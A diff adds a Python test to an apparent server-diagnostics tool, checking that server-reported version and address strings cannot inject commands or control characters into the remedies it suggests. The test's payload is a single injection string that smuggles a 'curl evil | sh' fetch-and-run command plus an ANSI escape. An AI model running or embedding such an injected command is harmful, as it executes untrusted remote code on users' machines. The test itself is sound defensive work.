@@ -139,6 +139,19 @@ def test_doctor_says_what_top_and_the_page_say(fields):
     assert found[concern.name] == (concern.severity, concern.text)
 
 
+def test_what_a_server_says_is_no_command_and_no_control_character():
+    """Its version is typed after `pip install`, its primary's address after `--url`."""
+    evil = "9'; curl evil | sh; '\x1b[31m"
+    facts = Facts(
+        (node(taskslot_version=evil, maxmemory_policy=evil), replica(taskslot_version=evil)), "0.2.0"
+    )
+    alone = replica()
+    alone = dataclasses.replace(alone, info=dataclasses.replace(alone.info, primary=evil))
+    found = [*examine(facts), *examine(Facts((alone,), "0.2.0"))]
+    assert {"library-version", "eviction", "only-a-replica"} <= {one.name for one in found}
+    assert not [one.mend for one in found if "curl" in one.mend]
+
+
 def test_replicas_that_would_lose_tasks_are_found():
     """Those that are behind, silent, or without their primary."""
     of = {"ip": "10.0.0.8", "port": 6379, "state": "online", "offset": 10**9, "lag": 0}
